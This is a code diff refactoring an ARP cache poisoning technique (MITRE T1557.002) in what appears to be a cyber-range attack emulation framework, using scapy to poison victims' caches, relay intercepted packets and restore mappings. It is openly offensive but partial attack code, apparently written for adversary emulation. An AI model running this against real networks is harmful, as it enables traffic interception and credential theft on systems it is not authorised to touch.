@@ -26,16 +26,14 @@ import socket
 import threading
 import time
 
-from cyberrange.attack.spec import Param, Technique
-from cyberrange.attack.techniques.common import (
-    Result,
-    _unique_ips,
+from cyberrange.attack.spec import Param, technique
+from cyberrange.attack.techniques.common import Result, _unique_ips
+from cyberrange.attack.techniques.layer2 import (
+    ETH_P_IP,
+    PACKET_OUTGOING,
     arp_resolve,
     route_targets,
 )
-
-ETH_P_IP = 0x0800
-PACKET_OUTGOING = 4
 
 
 class Interceptor(threading.Thread):
@@ -89,15 +87,29 @@ def _sysctl(path: str, value: str | None = None) -> str | None:
         return None
 
 
+@technique(
+    "T1557.002",
+    "Adversary-in-the-Middle: ARP Cache Poisoning",
+    "credential-access",
+    {
+        "duration": Param((int, float), 10, "seconds to keep the caches poisoned (at most 3600)"),
+        "interval": Param((int, float), 1.0, "seconds between poisoning rounds"),
+        "forward": Param(bool, True, "relay the intercepted packets (ip_forward for the duration)"),
+        "restore": Param(bool, True, "send the true mappings at the end"),
+        "restore_count": Param(int, 3, "correct replies per victim at the end"),
+        "timeout": Param((int, float), 1.0, "seconds to wait for the victims' ARP answers"),
+    },
+    produces=("victims", "intercepted_packets", "arp_frames"),
+)
 def arp_spoof(targets: list[str], params: dict) -> Result:
     from scapy.arch import get_if_hwaddr
     from scapy.config import conf
     from scapy.layers.l2 import ARP, Ether
     res = Result(start=time.time())
-    duration = float(params.get("duration", 10))
-    interval = max(0.05, float(params.get("interval", 1.0)))
-    forward, restore = bool(params.get("forward", True)), bool(params.get("restore", True))
-    restore_count = max(1, int(params.get("restore_count", 3)))
+    duration = float(params["duration"])
+    interval = max(0.05, float(params["interval"]))
+    forward, restore = bool(params["forward"]), bool(params["restore"])
+    restore_count = max(1, int(params["restore_count"]))
     if not 0 < duration <= 3600:
         res.outcome, res.error, res.end = "error", "duration must be in (0, 3600] s", time.time()
         return res
@@ -114,7 +126,7 @@ def arp_spoof(targets: list[str], params: dict) -> Result:
         return res
     iface, my_ip = hops[0].iface, hops[0].src
     my_mac = get_if_hwaddr(iface)
-    macs = arp_resolve(iface, my_ip, ips, float(params.get("timeout", 1.0)))
+    macs = arp_resolve(iface, my_ip, ips, float(params["timeout"]))
     missing = [ip for ip in ips if ip not in macs]
     if missing:
         res.outcome = "failed"
@@ -177,21 +189,3 @@ def arp_spoof(targets: list[str], params: dict) -> Result:
     res.outcome = "succeeded"
     res.end = time.time()
     return res
-
-
-SPECS = [
-    Technique(
-        "T1557.002", "Adversary-in-the-Middle: ARP Cache Poisoning", "credential-access",
-        {
-            "duration": Param((int, float), 10, "seconds to keep the caches poisoned"),
-            "interval": Param((int, float), 1.0, "seconds between poisoning rounds"),
-            "forward": Param(bool, True, "relay the intercepted packets (ip_forward for the duration)"),
-            "restore": Param(bool, True, "send the true mappings at the end"),
-            "restore_count": Param(int, 3, "correct replies per victim at the end"),
-            "timeout": Param((int, float), 1.0, "seconds to wait for the victims' ARP answers"),
-        },
-        produces=("victims", "intercepted_packets", "arp_frames"),
-    ),
-]
-
-FUNCS = {"T1557.002": arp_spoof}
